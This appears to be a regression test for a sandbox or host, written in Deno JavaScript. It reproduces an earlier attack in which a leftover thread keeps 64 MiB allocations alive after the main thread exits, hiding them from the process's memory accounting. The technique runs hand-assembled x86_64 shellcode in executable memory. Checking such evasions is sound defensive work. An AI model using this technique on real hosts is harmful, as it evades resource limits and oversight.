// Tries: memory that is made read-only, by a second thread after the first has ended: whoever asks for the size of the
// process is told of its first thread, which has none any more.
// Origin: an attack on this host, which once took such a process for gone.
// machine: x86_64

const spot = native.call("mmap", 0, 4096, 7, 0x22, -1, 0);
const code = new Uint8Array(Deno.UnsafePointerView.getArrayBuffer(Deno.UnsafePointer.create(BigInt(spot)), 4096));
const call = (number) => [0xb8, number, 0, 0, 0, 0x0f, 0x05];
const take = [0x31, 0xff, 0xbe, 0, 0, 0, 4, 0xba, 3, 0, 0, 0, 0x41, 0xba, 0x22, 0x80, 0, 0]; // 64 MiB, at once
const anonymous = [0x49, 0xc7, 0xc0, 255, 255, 255, 255, 0x45, 0x31, 0xc9];
const protect = [0x48, 0x89, 0xc7, 0xbe, 0, 0, 0, 4, 0xba, 1, 0, 0, 0];
const round = [...take, ...anonymous, ...call(9), ...protect, ...call(10), 0x41, 0xff, 0xcc];
const hangUp = [0xbf, 1, 0, 0, 0, 0xbe, 2, 0, 0, 0, ...call(48)];
const sleep = [0x6a, 0, 0x6a, 100, 0x48, 0x89, 0xe7, 0x31, 0xf6, ...call(35), 0xeb, -18 & 255];
code.set([0x41, 0xbc, 14, 0, 0, 0, ...round, 0x75, -(round.length + 2) & 255, ...hangUp, ...sleep]);
const libc = Deno.dlopen("libc.so.6", {
  pthread_create: { parameters: ["buffer", "pointer", "usize", "usize"], result: "i32" },
});
libc.symbols.pthread_create(new BigUint64Array(1), null, BigInt(spot), 0n);
native.call("exit", 0);
